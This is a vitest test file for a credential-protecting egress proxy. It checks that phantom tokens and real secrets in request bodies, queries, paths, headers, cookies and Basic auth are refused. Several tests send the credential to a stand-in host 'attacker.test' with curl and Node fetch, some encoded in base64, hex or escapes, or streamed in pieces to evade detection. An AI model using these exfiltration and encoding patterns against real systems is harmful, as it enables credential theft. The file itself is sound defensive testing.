import { describe, expect, test } from 'vitest';
import { credentialOf, secretOf } from '../../src/credentials/inject/testing/context.ts';
import { scratchFile } from '../../src/egress/tls/testing/loopback.ts';
import { programPath, reason } from '../../src/egress/tls/testing/programs.ts';
import { openWorld, type World } from '../lib/credential-world.ts';

const versions = ['--http1.1', '--http2'] as const;
const hosts = ['api.test', 'attacker.test'] as const;
const everywhere = hosts.flatMap((host) => versions.map((version) => ({ host, version })));

/** One host with a credential, and one without; both repeat the requests. */
async function open(): Promise<World> {
  return openWorld({
    credentials: [credentialOf({ injection: { kind: 'bearer' } })],
    sites: {
      'api.test': ({ body }, response) => void response.end(`got ${body.length}`),
      'attacker.test': ({ body }, response) => void response.end(`got ${body.length}`),
    },
  });
}

/** Uses the credential once, so that Holdfast knows its secret. */
async function withSecret(): Promise<World> {
  const world = await open();
  await world.run(['curl', '-sS', '-H', `Authorization: Bearer ${world.context.phantom()}`, 'https://api.test/']);
  expect(world.arrived).toHaveLength(1);
  return world;
}

function post(world: World, body: string | Buffer, words: readonly string[]): ReturnType<World['run']> {
  return world.run([
    'curl',
    '-sS',
    '-m',
    '10',
    '--data-binary',
    `@${scratchFile('body', body)}`,
    '-H',
    'Content-Type: application/octet-stream',
    ...words,
  ]);
}

const around = (text: string): string => `${'x'.repeat(70_000)}${text}${'y'.repeat(70_000)}`;

describe.skipIf(programPath('curl') === undefined)(`a phantom in the content of a request${reason('curl')}`, () => {
  test.each(everywhere)('to $host over $version ends the request, with the reason', async ({ host, version }) => {
    const world = await open();
    const { stdout } = await post(world, around(world.context.phantom()), [version, `https://${host}/`]);
    expect(stdout).toContain('The body of the request');
    expect(stdout).toContain('holds the phantom of the credential "main"');
    expect(world.arrived).toEqual([]);
    expect(world.refusals.map(({ code }) => code)).toEqual(['phantom-misused']);
    expect(world.context.alarms).toEqual([
      {
        kind: host === 'api.test' ? 'phantom-misplaced' : 'phantom-unbound',
        credential: 'main',
        destination: { host, port: 443 },
        place: 'the body',
      },
    ]);
  });

  test.each([
    ['in base64', (phantom: string) => Buffer.from(`ab${phantom}`).toString('base64')],
    ['in hexadecimal', (phantom: string) => Buffer.from(phantom).toString('hex')],
    [
      'percent-encoded',
      (phantom: string) => [...phantom].map((character) => `%${character.charCodeAt(0).toString(16)}`).join(''),
    ],
    [
      'in the escapes of JSON',
      (phantom: string) =>
        [...phantom].map((character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
    ],
  ])('is found %s', async (_, encode) => {
    const world = await open();
    await post(world, around(encode(world.context.phantom())), ['https://attacker.test/']);
    expect(world.arrived).toEqual([]);
    expect(world.context.alarms).toMatchObject([{ kind: 'phantom-unbound' }]);
  });

  test('is found at the very end, and in pieces', async () => {
    const world = await open();
    const program = `
      const phantom = process.argv[1];
      async function* pieces() { for (const character of 'content: ' + phantom) { yield new TextEncoder().encode(character); await new Promise((done) => setTimeout(done, 1)); } }
      const answer = await fetch('https://attacker.test/', { method: 'POST', duplex: 'half', body: ReadableStream.from(pieces()) });
      process.stdout.write(answer.status + await answer.text());`;
    const { stdout } = await world.run([
      process.execPath,
      '--input-type=module',
      '-e',
      program,
      world.context.phantom(),
    ]);
    expect(stdout).toMatch(/^403.*the phantom of the credential "main"/u);
    expect(world.arrived).toEqual([]);
  });
});

describe.skipIf(programPath('curl') === undefined)('a real secret in a request', () => {
  const places = [
    ['its content', (world: World, host: string) => post(world, around(secretOf('main')), [`https://${host}/`])],
    ['its query', (world: World, host: string) => world.run(['curl', '-sS', `https://${host}/?q=${secretOf('main')}`])],
    [
      'its path, in hexadecimal',
      (world: World, host: string) =>
        world.run(['curl', '-sS', `https://${host}/${Buffer.from(secretOf('main')).toString('hex')}`]),
    ],
    [
      'a header',
      (world: World, host: string) =>
        world.run(['curl', '-sS', '-H', `X-Log: ${secretOf('main')}`, `https://${host}/`]),
    ],
    [
      'its own header',
      (world: World, host: string) =>
        world.run(['curl', '-sS', '-H', `Authorization: Bearer ${secretOf('main')}`, `https://${host}/`]),
    ],
    [
      'Basic',
      (world: World, host: string) => world.run(['curl', '-sS', '-u', `a:${secretOf('main')}`, `https://${host}/`]),
    ],
    [
      'a cookie',
      (world: World, host: string) => world.run(['curl', '-sS', '-b', `a=${secretOf('main')}`, `https://${host}/`]),
    ],
  ] as const;

  test.each(places.flatMap(([place, send]) => hosts.map((host) => ({ place, host, send }))))(
    'in $place, to $host, is refused',
    async ({ host, send }) => {
      const world = await withSecret();
      const { stdout } = await send(world, host);
      expect(stdout).toContain('holds the secret of the credential "main" itself');
      expect(stdout).not.toContain(secretOf('main'));
      expect(world.arrived).toHaveLength(1);
      expect(world.context.alarms).toMatchObject([
        { kind: 'secret-outbound', credential: 'main', destination: { host } },
      ]);
    },
  );
});

test('a response without either arrives unchanged', async () => {
  const world = await withSecret();
  const body = Buffer.from(around('plain'));
  for (const host of hosts) expect((await post(world, body, [`https://${host}/`])).stdout).toBe(`got ${body.length}`);
  expect(world.arrived.slice(1).map((each) => each.body.equals(body))).toEqual([true, true]);
  expect(world.arrived.slice(1).map(({ headers }) => headers['content-length'])).toEqual([
    String(body.length),
    String(body.length),
  ]);
  expect(world.context.alarms).toEqual([]);
});

/** A server that answers the first half before it gets any content, and the second half when it has all. */
async function hasty(): Promise<{ readonly world: World; readonly heard: () => string }> {
  let heard = '';
  const world = await openWorld({
    credentials: [credentialOf({ injection: { kind: 'bearer' } })],
    sites: { 'api.test': () => undefined },
    prepare: (_, server) => {
      server.removeAllListeners('request').on('request', (request, response) => {
        request.on('error', () => undefined).on('data', (bytes: Buffer) => (heard += bytes.toString('latin1')));
        request.on('end', () => response.end('second half'));
        response.on('error', () => undefined);
        response.write('first half, ');
      });
    },
  });
  return { world, heard: () => heard };
}

/** Sends its arguments, one by one, starting when the answer has started. */
const slowly = `
  let begun;
  const hasBegun = new Promise((resolve) => (begun = resolve));
  async function* parts() { yield new TextEncoder().encode('begin '); await hasBegun; for (const part of process.argv.slice(1)) { yield new TextEncoder().encode(part); await new Promise((resolve) => setTimeout(resolve, 20)); } }
  const answer = await fetch('https://api.test/', { method: 'POST', duplex: 'half', body: ReadableStream.from(parts()) });
  try { for await (const bytes of answer.body) { process.stdout.write(bytes); begun(); } } catch { process.stdout.write('broken off'); }`;

describe('an answer that begins before the end of its request', () => {
  const send = (world: World, ...parts: readonly string[]): ReturnType<World['run']> =>
    world.run([process.execPath, '--input-type=module', '-e', slowly, ...parts]);

  test('continues while the request is clean', async () => {
    const { world, heard } = await hasty();
    expect((await send(world, 'middle ', 'end')).stdout).toBe('first half, second half');
    expect(heard()).toBe('begin middle end');
  });

  test('is cut off at a phantom in the request, which does not leave', async () => {
    const { world, heard } = await hasty();
    const phantom = world.context.phantom();
    expect((await send(world, 'middle ', phantom.slice(0, 20), phantom.slice(20), 'end')).stdout).toBe(
      'first half, broken off',
    );
    expect(heard()).toMatch(/^begin middle .{0,3}$/u);
    expect(world.context.alarms).toMatchObject([{ kind: 'phantom-misplaced', place: 'the body' }]);
  });
});
